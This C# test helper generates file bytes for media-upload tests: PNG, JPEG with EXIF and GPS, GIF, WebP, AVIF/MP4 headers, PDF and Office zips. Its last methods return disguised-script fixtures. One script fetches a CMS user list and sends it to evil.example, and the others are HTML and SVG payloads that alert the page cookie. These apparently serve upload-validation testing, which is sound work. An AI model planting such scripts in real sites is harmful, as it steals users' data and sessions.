using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace MayorsClub.Tests;

/// <summary>Real file bytes for media tests: valid PNGs drawn here, headers of the other formats, Office packages, disguised scripts.</summary>
public static class MediaTestFiles
{
    /// <summary>A valid PNG (RGB, 8 bits) of the given size filled with one colour: browsers display it.</summary>
    public static byte[] Png(int width, int height, byte red = 200, byte green = 60, byte blue = 40)
    {
        var raw = new MemoryStream();
        for (var y = 0; y < height; y++)
        {
            raw.WriteByte(0); // filter: none
            for (var x = 0; x < width; x++)
            {
                raw.WriteByte(red);
                raw.WriteByte((byte)(green + (y * 97 / Math.Max(1, height))));
                raw.WriteByte(blue);
            }
        }

        var compressed = new MemoryStream();
        using (var zlib = new ZLibStream(compressed, CompressionLevel.Optimal, leaveOpen: true))
        {
            raw.Position = 0;
            raw.CopyTo(zlib);
        }

        var header = new byte[13];
        BinaryPrimitives.WriteUInt32BigEndian(header, (uint)width);
        BinaryPrimitives.WriteUInt32BigEndian(header.AsSpan(4), (uint)height);
        header[8] = 8; // bit depth
        header[9] = 2; // truecolour
        var png = new MemoryStream();
        png.Write([0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A]);
        Chunk(png, "IHDR", header);
        Chunk(png, "IDAT", compressed.ToArray());
        Chunk(png, "IEND", []);
        return png.ToArray();
    }

    /// <summary>The start of a JPEG: SOI, an APP0 (JFIF) and a comment segment, then the frame header with the size.</summary>
    public static byte[] JpegHeader(int width, int height, byte frameMarker = 0xC0, int exifOrientation = 0, bool littleEndianExif = false)
    {
        var jpeg = new MemoryStream();
        jpeg.Write([0xFF, 0xD8]);
        jpeg.Write([0xFF, 0xE0, 0x00, 0x10, (byte)'J', (byte)'F', (byte)'I', (byte)'F', 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);
        if (exifOrientation > 0)
        {
            jpeg.Write(ExifSegment(exifOrientation, littleEndianExif));
        }

        var comment = Encoding.ASCII.GetBytes("made for a test");
        jpeg.Write([0xFF, 0xFE, 0x00, (byte)(comment.Length + 2)]);
        jpeg.Write(comment);
        jpeg.Write([0xFF, frameMarker, 0x00, 0x11, 0x08, (byte)(height >> 8), (byte)height, (byte)(width >> 8), (byte)width, 0x03, 0x01, 0x22, 0x00, 0x02, 0x11, 0x01, 0x03, 0x11, 0x01]);
        jpeg.Write([0xFF, 0xDA, 0x00, 0x0C, 0x03, 0x01, 0x00, 0x02, 0x11, 0x03, 0x11, 0x00, 0x3F, 0x00, 0x12, 0x34, 0xFF, 0xD9]);
        return jpeg.ToArray();
    }

    /// <summary>An APP1 EXIF segment whose IFD0 holds a software tag and the orientation, as cameras write it.</summary>
    public static byte[] ExifSegment(int orientation, bool littleEndian = false)
    {
        var tiff = new byte[8 + 2 + (2 * 12) + 4];
        void U16(int at, int value)
        {
            if (littleEndian) BinaryPrimitives.WriteUInt16LittleEndian(tiff.AsSpan(at), (ushort)value);
            else BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(at), (ushort)value);
        }

        void U32(int at, int value)
        {
            if (littleEndian) BinaryPrimitives.WriteUInt32LittleEndian(tiff.AsSpan(at), (uint)value);
            else BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(at), (uint)value);
        }

        Encoding.ASCII.GetBytes(littleEndian ? "II" : "MM").CopyTo(tiff, 0);
        U16(2, 42);
        U32(4, 8);
        U16(8, 2);
        U16(10, 0x010F); // Make, ASCII, 4 bytes inline
        U16(12, 2);
        U32(14, 4);
        Encoding.ASCII.GetBytes("Cam\0").CopyTo(tiff, 18);
        U16(22, 0x0112); // Orientation, SHORT, 1
        U16(24, 3);
        U32(26, 1);
        U16(30, orientation);
        var segment = new MemoryStream();
        var length = 2 + 6 + tiff.Length;
        segment.Write([0xFF, 0xE1, (byte)(length >> 8), (byte)length]);
        segment.Write("Exif\0\0"u8);
        segment.Write(tiff);
        return segment.ToArray();
    }

    /// <summary>An APP1 EXIF segment as a phone writes it: IFD0 with the orientation and a pointer to a GPS block (latitude 50° N).</summary>
    public static byte[] ExifWithGps(int orientation)
    {
        var tiff = new byte[8 + 2 + (2 * 12) + 4 + 2 + (2 * 12) + 4 + 24];
        BinaryPrimitives.WriteUInt16BigEndian(tiff, 0x4D4D); // "MM"
        BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(2), 42);
        BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(4), 8);
        BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(8), 2);
        void Entry(int at, int tag, int type, int count, uint value)
        {
            BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(at), (ushort)tag);
            BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(at + 2), (ushort)type);
            BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(at + 4), (uint)count);
            BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(at + 8), value);
        }

        Entry(10, 0x0112, 3, 1, (uint)orientation << 16); // Orientation (SHORT, left-justified)
        var gps = 8 + 2 + 24 + 4;
        Entry(22, 0x8825, 4, 1, (uint)gps); // GPSInfo → the GPS IFD
        BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(gps), 2);
        Entry(gps + 2, 0x0001, 2, 2, (uint)'N' << 24); // GPSLatitudeRef "N"
        var rational = gps + 2 + 24 + 4;
        Entry(gps + 14, 0x0002, 5, 3, (uint)rational); // GPSLatitude 50/1 27/1 0/1
        for (var i = 0; i < 3; i++)
        {
            BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(rational + (i * 8)), i switch { 0 => 50u, 1 => 27u, _ => 0u });
            BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(rational + (i * 8) + 4), 1);
        }

        var segment = new MemoryStream();
        var length = 2 + 6 + tiff.Length;
        segment.Write([0xFF, 0xE1, (byte)(length >> 8), (byte)length]);
        segment.Write("Exif\0\0"u8);
        segment.Write(tiff);
        return segment.ToArray();
    }

    /// <summary>A real JPEG (no metadata) with these segments put in right after its start.</summary>
    public static byte[] WithSegments(byte[] jpeg, params byte[][] segments) => [.. jpeg[..2], .. segments.SelectMany(s => s), .. jpeg[2..]];

    public static byte[] GifHeader(int width, int height) =>
    [
        .. "GIF89a"u8, (byte)width, (byte)(width >> 8), (byte)height, (byte)(height >> 8), 0x80, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0x00, 0x00, 0x00,
        0x2C, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3B,
    ];

    /// <summary>A lossless WebP header (VP8L).</summary>
    public static byte[] WebPLossless(int width, int height)
    {
        var bits = (uint)(width - 1) | ((uint)(height - 1) << 14);
        var data = new byte[5 + 8];
        data[0] = 0x2F;
        BinaryPrimitives.WriteUInt32LittleEndian(data.AsSpan(1), bits);
        return Riff("VP8L", data);
    }

    /// <summary>A lossy WebP header (VP8): frame tag, start code, 14-bit sizes.</summary>
    public static byte[] WebPLossy(int width, int height)
    {
        var data = new byte[10 + 8];
        data[0] = 0x50;
        data[3] = 0x9D;
        data[4] = 0x01;
        data[5] = 0x2A;
        BinaryPrimitives.WriteUInt16LittleEndian(data.AsSpan(6), (ushort)width);
        BinaryPrimitives.WriteUInt16LittleEndian(data.AsSpan(8), (ushort)height);
        return Riff("VP8 ", data);
    }

    /// <summary>An extended WebP header (VP8X): canvas size in 24 bits each.</summary>
    public static byte[] WebPExtended(int width, int height)
    {
        var data = new byte[10 + 8];
        data[0] = 0x10;
        data[4] = (byte)(width - 1);
        data[5] = (byte)((width - 1) >> 8);
        data[6] = (byte)((width - 1) >> 16);
        data[7] = (byte)(height - 1);
        data[8] = (byte)((height - 1) >> 8);
        data[9] = (byte)((height - 1) >> 16);
        return Riff("VP8X", data);
    }

    /// <summary>An ISO media file's start: an ftyp box with the brands, then (for AVIF) a meta box with image sizes.</summary>
    public static byte[] IsoMedia(string majorBrand, IReadOnlyList<string>? compatible = null, IReadOnlyList<(int Width, int Height)>? imageSizes = null, byte[]? extra = null)
    {
        var file = new MemoryStream();
        var brands = compatible ?? [majorBrand];
        var ftyp = new byte[16 + (4 * brands.Count)];
        BinaryPrimitives.WriteUInt32BigEndian(ftyp, (uint)ftyp.Length);
        Encoding.ASCII.GetBytes("ftyp").CopyTo(ftyp, 4);
        Encoding.ASCII.GetBytes(majorBrand).CopyTo(ftyp, 8);
        for (var i = 0; i < brands.Count; i++)
        {
            Encoding.ASCII.GetBytes(brands[i]).CopyTo(ftyp, 16 + (4 * i));
        }

        file.Write(ftyp);
        foreach (var (width, height) in imageSizes ?? [])
        {
            var ispe = new byte[20];
            BinaryPrimitives.WriteUInt32BigEndian(ispe, 20);
            Encoding.ASCII.GetBytes("ispe").CopyTo(ispe, 4);
            BinaryPrimitives.WriteUInt32BigEndian(ispe.AsSpan(12), (uint)width);
            BinaryPrimitives.WriteUInt32BigEndian(ispe.AsSpan(16), (uint)height);
            file.Write(ispe);
        }

        file.Write(extra ?? []);
        file.Write(new byte[256]);
        return file.ToArray();
    }

    public static byte[] Mp4() => IsoMedia("isom", ["isom", "iso2", "avc1", "mp41"]);

    public static byte[] Pdf(string text = "a session's slides") =>
        Encoding.ASCII.GetBytes($"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n% {Guid.NewGuid()} {text}\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    public static byte[] Docx(string mainContentType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", bool withDocument = true) =>
        Zip(new Dictionary<string, string>
        {
            ["[Content_Types].xml"] = ContentTypes("/word/document.xml", mainContentType),
            ["_rels/.rels"] = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>",
            [withDocument ? "word/document.xml" : "word/other.xml"] = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body/></w:document>",
        });

    public static byte[] Pptx() =>
        Zip(new Dictionary<string, string>
        {
            ["[Content_Types].xml"] = ContentTypes("/ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
            ["ppt/presentation.xml"] = "<p:presentation xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"/>",
        });

    public static byte[] PlainZip() => Zip(new Dictionary<string, string> { ["readme.txt"] = "just an archive", ["word/document.xml"] = "<x/>" });

    public static byte[] Zip(IReadOnlyDictionary<string, string> entries)
    {
        var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in entries)
            {
                using var writer = new StreamWriter(zip.CreateEntry(name).Open(), new UTF8Encoding(false));
                writer.Write(text);
            }
        }

        return buffer.ToArray();
    }

    public static byte[] Script() => Encoding.UTF8.GetBytes("<script>fetch('/umbraco/users').then(r => r.text()).then(t => new Image().src = '//evil.example/?' + t)</script>");

    public static byte[] Html() => Encoding.UTF8.GetBytes("<!DOCTYPE html><html><body onload=\"alert(1)\">hello</body></html>");

    public static byte[] SvgWithScript() => Encoding.UTF8.GetBytes(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script>alert(document.cookie)</script><rect width=\"10\" height=\"10\" onclick=\"alert(1)\"/></svg>");

    private static string ContentTypes(string partName, string contentType) =>
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>" +
        "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">" +
        "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>" +
        "<Default Extension=\"xml\" ContentType=\"application/xml\"/>" +
        $"<Override PartName=\"{partName}\" ContentType=\"{contentType}\"/>" +
        "</Types>";

    private static byte[] Riff(string chunk, byte[] data)
    {
        var file = new byte[20 + data.Length];
        Encoding.ASCII.GetBytes("RIFF").CopyTo(file, 0);
        BinaryPrimitives.WriteUInt32LittleEndian(file.AsSpan(4), (uint)(file.Length - 8));
        Encoding.ASCII.GetBytes("WEBP").CopyTo(file, 8);
        Encoding.ASCII.GetBytes(chunk).CopyTo(file, 12);
        BinaryPrimitives.WriteUInt32LittleEndian(file.AsSpan(16), (uint)data.Length);
        data.CopyTo(file, 20);
        return file;
    }

    private static void Chunk(Stream png, string type, byte[] data)
    {
        Span<byte> length = stackalloc byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(length, (uint)data.Length);
        png.Write(length);
        var typeBytes = Encoding.ASCII.GetBytes(type);
        png.Write(typeBytes);
        png.Write(data);
        Span<byte> crc = stackalloc byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(crc, Crc32([.. typeBytes, .. data]));
        png.Write(crc);
    }

    private static uint Crc32(byte[] bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++)
            {
                crc = (crc & 1) != 0 ? 0xEDB88320u ^ (crc >> 1) : crc >> 1;
            }
        }

        return crc ^ 0xFFFFFFFFu;
    }
}
